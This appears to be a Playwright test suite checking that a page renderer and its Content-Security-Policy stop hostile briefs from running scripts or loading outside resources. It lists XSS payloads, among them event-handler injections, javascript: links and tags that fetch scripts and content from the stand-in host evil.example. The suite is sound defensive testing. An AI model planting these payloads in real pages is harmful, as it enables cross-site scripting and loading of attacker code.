import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { launchBrowser } from "../../scripts/vscode-host/browser.ts";
import { pageOf } from "../render/support/page.ts";
import { vectors } from "../render/support/vectors.ts";

const address = "http://brief.example/page.html";

/** What a page did that it should not: it ran something, asked somebody, or went somewhere. */
interface Trap {
	show(page: string): Promise<readonly string[]>;
	close(): Promise<void>;
}

async function setTrap(browser: Browser): Promise<Trap> {
	const context = await browser.newContext();
	const page = await context.newPage();
	let html = "";
	let caught: string[] = [];
	await context.route("**", (route) => {
		const url = route.request().url();
		if (url === address) return route.fulfill({ contentType: "text/html", body: html });
		caught.push(`asked for ${url}`);
		return route.abort();
	});
	await page.exposeFunction("pwned", () => {
		caught.push("ran");
	});
	page.on("dialog", (dialog) => {
		caught.push(`said ${dialog.message()}`);
		void dialog.dismiss();
	});
	page.on("popup", () => caught.push("opened a window"));
	page.on("framenavigated", (frame) => {
		if (!stays.includes(frame.url())) caught.push(`went to ${frame.url()}`);
	});
	return {
		async show(body) {
			html = body;
			caught = [];
			await page.goto(address, { waitUntil: "load" });
			await touchEverything(page);
			return caught;
		},
		close: () => context.close(),
	};
}

/** In the last one a browser says that it was not let go elsewhere. */
const stays = [address, "about:blank", "about:srcdoc", "chrome-error://chromewebdata/"];

/** What a reader could do, but for following a link to another page. */
function touchEverything(page: Page): Promise<void> {
	return page.evaluate(async () => {
		for (const element of document.querySelectorAll("*")) {
			for (const name of ["mouseover", "mouseenter", "focus", "focusin", "error", "load", "toggle"])
				element.dispatchEvent(new Event(name, { bubbles: name !== "focus" }));
			const isWayOut = element.closest(
				"a[href^='http'], a[href^='//'], a[href^='mailto:'], a[href^='tel:']",
			);
			const isLocal = element.closest("a")?.getAttribute("href")?.includes(":") === false;
			if (element instanceof HTMLElement && !isWayOut && !isLocal) element.click();
		}
		await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
	});
}

suite("a page of a hostile brief, in a browser", () => {
	let browser: Browser;
	let trap: Trap;
	before(async () => {
		browser = await launchBrowser();
		trap = await setTrap(browser);
	});
	after(async () => {
		await trap.close();
		await browser.close();
	});

	test("would be caught", async () => {
		assert.deepEqual(await trap.show("<img src=x onerror=pwned(1)>"), [
			"asked for http://brief.example/x",
			"ran",
			"ran",
		]);
		assert.deepEqual(await trap.show("<b onmouseover=pwned(1)>x</b>"), ["ran"]);
		assert.deepEqual(await trap.show("<a href='javascript:pwned(1)'>x</a>"), ["ran"]);
	});

	test("neither runs nor loads anything, even without its content security policy", async () => {
		for (const { name, text, bibliography } of vectors) {
			if (name.endsWith(", in a sentence")) continue;
			const page = pageOf(text, bibliography === undefined ? {} : { bibliography });
			assert.match(page, policy);
			assert.deepEqual(await trap.show(page.replace(policy, "")), [], name);
		}
	});

	test("would neither run nor load anything if something got through", async () => {
		const [before = "", after = ""] = pageOf("HERE\n").split("HERE");
		for (const code of gotThrough) {
			const page = `${before}${code}${after}`;
			assert.notDeepEqual(await trap.show(page.replace(policy, "")), [], code);
			assert.deepEqual(await trap.show(page), [], code);
		}
	});
});

const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

const gotThrough: readonly string[] = [
	"<script>pwned(1)</script>",
	"<script src='https://evil.example/x.js'></script>",
	"<img src='https://evil.example/x.png'>",
	"<img src=x onerror=pwned(1)>",
	"<b onmouseover=pwned(1)>x</b>",
	"<a href='javascript:pwned(1)'>x</a>",
	"<svg onload=pwned(1)></svg>",
	"<svg><image href='https://evil.example/x.png'/></svg>",
	"<iframe src='https://evil.example'></iframe>",
	"<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
	"<object data='https://evil.example/x.html'></object>",
	"<embed src='https://evil.example/x.html'>",
	"<link rel=stylesheet href='https://evil.example/x.css'>",
	"<style>main{background:url(https://evil.example/x.png)}</style>",
	"<p style='background:url(https://evil.example/x.png)'>x</p>",
	"<video src='https://evil.example/x.mp4' autoplay></video>",
	"<base href='https://evil.example/'><img src=x>",
];
